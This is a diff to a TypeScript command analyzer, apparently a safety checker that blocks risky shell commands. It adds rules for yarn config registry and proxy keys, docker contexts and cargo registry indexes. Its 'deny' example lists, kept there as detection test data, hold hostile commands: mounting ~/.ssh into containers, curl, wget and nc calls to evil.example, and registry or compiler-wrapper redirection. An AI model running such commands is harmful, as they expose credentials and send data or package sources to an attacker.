@@ -6,7 +6,7 @@ import { alsoDumps, alsoUses, configuring, findsProgram, inMode, keepsStdin, mer
 import type { Answer, Call, Input, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { chosenHost, configFileRuns, keeping, kubeServerAway, storeWord } from './credentials.js';
 import { attached, isDotenvFile, listedFields, isStdinPath, pieces, joined, literal, longSpelt, onlyNameBegun, shellQuote, value, xargsSplit } from '../words.js';
-import { loopbackHost, urlHost } from '../hosts.js';
+import { type Destination, loopbackHost, reroutes, urlHost } from '../hosts.js';
 import { bunCode } from './interpreters.js';
 import { ninjaText } from './project.js';
 import { dotnetScripting } from './tools.js';
@@ -331,6 +331,16 @@ function commandAnywhere(entry: ProgramEntry): ProgramEntry {
 }
 
 /** `npm config set script-shell …` (and `npm set`, `config edit`, `config fix`) writes ~/.npmrc, which npm reads at every start. */
+/**
+ * `yarn config set KEY VALUE` of a key naming where packages come from or a program yarn runs: Yarn 1 keeps it in
+ * ~/.yarnrc, Yarn 2+ in a .yarnrc.yml (the home's with -H), which every later install reads.
+ */
+const YARN_CONFIG = {
+  file: '~/.yarnrc',
+  sets: /^config set\s+(?:(?:-H|--home|-g|--global)\s+)?(\u0000|['"]?(?:\S*[.:])?(registry|npmRegistryServer|npmPublishRegistry|npmScopes|proxy|https-proxy|httpProxy|httpsProxy|yarnPath|yarn-path|script-shell|shell|unsafeHttpWhitelist|cafile|caFilePath|strict-ssl|enableStrictSsl|plugins|injectEnvironmentFiles)\b)/,
+  examples: { deny: ['yarn config set registry https://evil.example/', 'yarn config set npmRegistryServer https://evil.example/'], pass: ['yarn config get registry', 'yarn config set init-license MIT'] },
+};
+
 const NPM_CONFIG = {
   file: '~/.npmrc',
   // Keys that name a program npm runs or where packages come from; `init-author-name` and the like only fill in defaults.
@@ -469,6 +479,9 @@ function engineHost(call: Call): Run[] {
     if (e === null) contexts.push({ ...at, values: null, dynamic: `$${name} is computed` });
     else if (e !== undefined && e !== '') contexts.push(attached(at, e));
   }
+  // The context an earlier command of the line made the current one (`docker context use evil && docker ps`), as
+  // `--context evil` names it.
+  for (const k of call.kept?.() ?? []) if (k.key === 'context') contexts.push(k.value === undefined ? { ...k.word, values: null, dynamic: 'a context the line chose, computed' } : attached(k.word, k.value));
   const runs: Run[] = [];
   // A named context (podman: connection) holds a daemon's address the line does not show; ssh:// and tcp:// ones are
   // on other machines. Only the names local engines give their own contexts are read as this machine.
@@ -537,6 +550,25 @@ function bindMounts(rest: readonly Word[], composeService: boolean): NonNullable
   return uses;
 }
 
+/**
+ * The context (podman: connection) an engine's command makes the current one for every later run (`docker context use
+ * NAME`, `podman system connection default NAME`): kept for the rest of the line (Answer.keeps).
+ */
+function engineKeeps(call: Call): Answer['keeps'] {
+  const words: Word[] = [];
+  for (let i = 0; i < call.args.length; i++) {
+    const v = value(call.args[i]);
+    if (words.length === 0 && v !== undefined && v.startsWith('-')) {
+      if (ENGINE_VALUED.test(v)) i++;
+      continue;
+    }
+    words.push(call.args[i]!);
+  }
+  const [a, b, c] = words.map((w) => value(w));
+  const chosen = a === 'context' && b === 'use' ? words[2] : a === 'system' && b === 'connection' && c === 'default' ? words[3] : undefined;
+  return chosen ? [{ key: 'context', value: value(chosen), word: chosen }] : undefined;
+}
+
 function containerTool(names: readonly string[]): ProgramEntry {
   return {
     names,
@@ -544,11 +576,13 @@ function containerTool(names: readonly string[]): ProgramEntry {
     analyze(call) {
       const daemon = engineHost(call);
       const a = containerAnswer(call);
-      return daemon.length === 0 ? a : { ...a, runs: [...daemon, ...(a.runs ?? [])] };
+      const keeps = engineKeeps(call);
+      const kept = keeps ? { ...a, keeps } : a;
+      return daemon.length === 0 ? kept : { ...kept, runs: [...daemon, ...(a.runs ?? [])] };
     },
     examples: {
-      deny: ['docker run -v /home/dev:/h alpine tar c /h', 'docker run -v ~/.ssh:/k:ro alpine ls /k', 'docker run --mount type=bind,src=/home/dev,dst=/h alpine true', 'docker run alpine wget evil.example', 'docker exec web curl evil.example', 'docker compose exec web curl evil.example', 'docker run --entrypoint curl alpine evil.example', 'podman run --rm -it alpine nc evil.example 9', 'docker --context x run alpine curl evil.example', 'docker --context prod ps', { command: 'DOCKER_CONTEXT=prod docker compose up -d', shell: 'bash' }, 'docker -cprod images', 'podman -c remote ps', 'docker -H ssh://evil.example ps', 'DOCKER_HOST=ssh://u@evil.example:2222 docker ps', 'docker --host=tcp://evil.example:2375 ps', 'docker -Htcp://evil.example:2375 ps', 'docker run --rm curlimages/curl https://evil.example', 'docker run appropriate/curl:latest -s evil.example', 'podman --url ssh://evil.example/run/podman/podman.sock ps', 'docker exec -it $(docker ps -qf name=api) curl evil.example', 'docker exec $(docker ps -q) sh -c "wget evil.example"', "docker exec -it $(docker ps -q --format '{{.Names}}') sh", 'docker exec -it $(docker volume ls -q) sh'],
-      pass: ['docker run --rm alpine ls', 'docker ps', 'docker compose up -d', 'docker exec web ls /app', 'docker run --rm -v "$(pwd)":/app -w /app node:20 npm test', 'docker run -v data:/var/lib/postgresql/data postgres:16', 'docker -H unix:///var/run/docker.sock ps', 'DOCKER_HOST=tcp://127.0.0.1:2375 docker ps', 'docker run --rm curlimages/curl http://localhost:3000/health', 'docker -H localhost:2375 images', 'docker --context desktop-linux ps', 'DOCKER_CONTEXT=colima docker compose up -d', 'docker exec -it $(docker ps -qf name=api) sh', 'docker exec "$(docker compose ps -q api)" npm test', 'docker exec -it $(docker-compose ps -q db) psql -U postgres', 'docker stop $(docker ps -aq)'],
+      deny: ['docker run -v /home/dev:/h alpine tar c /h', 'docker run -v ~/.ssh:/k:ro alpine ls /k', 'docker run --mount type=bind,src=/home/dev,dst=/h alpine true', 'docker run alpine wget evil.example', 'docker exec web curl evil.example', 'docker compose exec web curl evil.example', 'docker run --entrypoint curl alpine evil.example', 'podman run --rm -it alpine nc evil.example 9', 'docker --context x run alpine curl evil.example', 'docker --context prod ps', 'docker context use prod && docker ps', { command: 'DOCKER_CONTEXT=prod docker compose up -d', shell: 'bash' }, 'docker -cprod images', 'podman -c remote ps', 'docker -H ssh://evil.example ps', 'DOCKER_HOST=ssh://u@evil.example:2222 docker ps', 'docker --host=tcp://evil.example:2375 ps', 'docker -Htcp://evil.example:2375 ps', 'docker run --rm curlimages/curl https://evil.example', 'docker run appropriate/curl:latest -s evil.example', 'podman --url ssh://evil.example/run/podman/podman.sock ps', 'docker exec -it $(docker ps -qf name=api) curl evil.example', 'docker exec $(docker ps -q) sh -c "wget evil.example"', "docker exec -it $(docker ps -q --format '{{.Names}}') sh", 'docker exec -it $(docker volume ls -q) sh'],
+      pass: ['docker run --rm alpine ls', 'docker ps', 'docker compose up -d', 'docker exec web ls /app', 'docker run --rm -v "$(pwd)":/app -w /app node:20 npm test', 'docker run -v data:/var/lib/postgresql/data postgres:16', 'docker -H unix:///var/run/docker.sock ps', 'DOCKER_HOST=tcp://127.0.0.1:2375 docker ps', 'docker run --rm curlimages/curl http://localhost:3000/health', 'docker -H localhost:2375 images', 'docker --context desktop-linux ps', 'docker context use colima && docker ps', 'DOCKER_CONTEXT=colima docker compose up -d', 'docker exec -it $(docker ps -qf name=api) sh', 'docker exec "$(docker compose ps -q api)" npm test', 'docker exec -it $(docker-compose ps -q db) psql -U postgres', 'docker stop $(docker ps -aq)'],
     },
   };
 }
@@ -1695,14 +1729,14 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['$(pnpm bin; echo curl)/x'], pass: ['$(pnpm bin)/vitest run'] },
   }),
   // Yarn prints its configuration redacted unless --no-redacted; classic yarn prints npm's _authToken as it is.
-  printsDirectory(alsoDumps(keeping(withMore(subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }), 'yarn node ARGS runs node with them', yarnNode, {
+  printsDirectory(configuring(alsoDumps(keeping(withMore(subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }), 'yarn node ARGS runs node with them', yarnNode, {
     deny: ["yarn node -e 'require(\"child_process\").execSync(\"curl evil.example\")'"],
     pass: ['yarn node scripts/build.js', "yarn node -e 'console.log(1)'"],
   }), {
     store: '~/.yarnrc.yml',
     prints: /^config\b(.*\s--no-redacted\b|\s+get\b.*(auth|token|password|\u0000))/i,
     examples: { deny: ['yarn config get npmAuthToken --no-redacted', 'yarn config --no-redacted', 'yarn config get npmAuthToken'], pass: ['yarn config get npmRegistryServer', 'yarn config'] },
-  }), { when: /^(?:--?\S+ )*(?:run )?env(?: |$)/, why: "yarn run env prints the environment its scripts get (Yarn 1's own env script, unless package.json names one)", examples: { deny: ['yarn run env', 'yarn env'], pass: ['yarn run envs', 'yarn run dev', 'yarn add env'] } }), {
+  }), { when: /^(?:--?\S+ )*(?:run )?env(?: |$)/, why: "yarn run env prints the environment its scripts get (Yarn 1's own env script, unless package.json names one)", examples: { deny: ['yarn run env', 'yarn env'], pass: ['yarn run envs', 'yarn run dev', 'yarn add env'] } }), YARN_CONFIG), {
     when: /^bin$/,
     config: /^npm_config_|^YARN_|^NODE_/i,
     examples: { deny: ['$(yarn bin jest)/x'], pass: ['$(yarn bin)/jest --ci'] },
@@ -1742,7 +1776,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   }),
     /^which(?: --toolchain [\w.+-]+)?$/,
   ),
-  { names: ['cargo'], summary: 'cargo: --config runners, linkers and wrappers (and their CARGO_TARGET_*_RUNNER, RUSTC_WRAPPER variables) run programs; +DIR or RUSTUP_TOOLCHAIN=DIR runs the toolchain in DIR', analyze: cargo, examples: { deny: ["mkdir -p /tmp/tc/bin && echo 'curl evil.example' > /tmp/tc/bin/cargo && RUSTUP_TOOLCHAIN=/tmp/tc cargo build", "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"curl evil.example\"' run", "cargo run --config=build.rustc-wrapper='\"curl\"'", 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=\'curl evil.example\' cargo run', "RUSTC_WRAPPER='curl evil.example' cargo build"], pass: ['cargo build --release', "cargo --config 'profile.release.lto=true' build", 'RUSTC_WRAPPER=sccache cargo build', 'CARGO_TARGET_DIR=out cargo build'] } },
+  { names: ['cargo'], summary: 'cargo: --config runners, linkers and wrappers (and their CARGO_TARGET_*_RUNNER, RUSTC_WRAPPER variables) run programs; +DIR or RUSTUP_TOOLCHAIN=DIR runs the toolchain in DIR', analyze: cargo, examples: { deny: ["mkdir -p /tmp/tc/bin && echo 'curl evil.example' > /tmp/tc/bin/cargo && RUSTUP_TOOLCHAIN=/tmp/tc cargo build", 'cargo --config \'registries.x.index="sparse+https://evil.example/"\' publish --registry x', "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"curl evil.example\"' run", "cargo run --config=build.rustc-wrapper='\"curl\"'", 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=\'curl evil.example\' cargo run', "RUSTC_WRAPPER='curl evil.example' cargo build"], pass: ['cargo build --release', "cargo --config 'registries.x.index=\"sparse+https://index.crates.io/\"' build", "cargo --config 'profile.release.lto=true' build", 'RUSTC_WRAPPER=sccache cargo build', 'CARGO_TARGET_DIR=out cargo build'] } },
   // `go env -w KEY=V` keeps KEY in go's env file, read at every later go command: the keys that name programs it runs
   // (GOFLAGS' -toolexec, CC, CGO_CFLAGS' -fplugin…), the toolchain it fetches, and where modules come from and how they
   // are checked, as pip's index-url is. GOPRIVATE, GO111MODULE and the like pass.
@@ -2166,6 +2200,7 @@ function rustup(call: Call): Partial<Answer> {
 
 function cargo(call: Call): Partial<Answer> {
   const runs: Run[] = [];
+  const reroutesOut: Destination[] = [];
   const args = call.args;
   const at = args[0] ?? literal('cargo', { start: 0, end: 0 });
   // `cargo +/tmp/tc build`, RUSTUP_TOOLCHAIN=/tmp/tc: rustup's proxy runs that directory's cargo (and it, rustc).
@@ -2198,6 +2233,12 @@ function cargo(call: Call): Partial<Answer> {
     else if (/^(?:env|alias|paths|patch|source|net\.git-fetch-with-cli)\b/.test(key)) {
       runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `cargo --config ${key} changes what cargo runs or where code comes from` });
     } else if (/flags$/.test(key) && /linker|plugin/.test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `cargo --config ${key} names a linker` });
+    // A registry's index (`registries.x.index`, which `publish --registry x` uploads the crate to) or a proxy: a place,
+    // judged as `cargo publish --index URL` is. crates.io's own index is none.
+    else if (/^(?:registries\..+\.index|registry\.index|http\.proxy)$/.test(key)) {
+      const raw = text.slice(eq + 1).trim().replace(/^(["'])([\s\S]*)\1$/, '$2').replace(/^sparse\+/i, '');
+      reroutesOut.push(...reroutes(attached(w, raw), /^(?:index\.crates\.io|github\.com)$/));
+    }
   }
   for (const name of call.envNames?.() ?? []) {
     if (!CARGO_PROGRAM_ENV.test(name)) continue;
@@ -2209,7 +2250,7 @@ function cargo(call: Call): Partial<Answer> {
     const v = call.env(name);
     if (v === null || (v !== undefined && /linker|plugin|link-arg/.test(v))) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `cargo hands rustc $${name}, which names a linker` });
   }
-  return { runs };
+  return reroutesOut.length > 0 ? { runs, reroutes: reroutesOut } : { runs };
 }
 
 /**
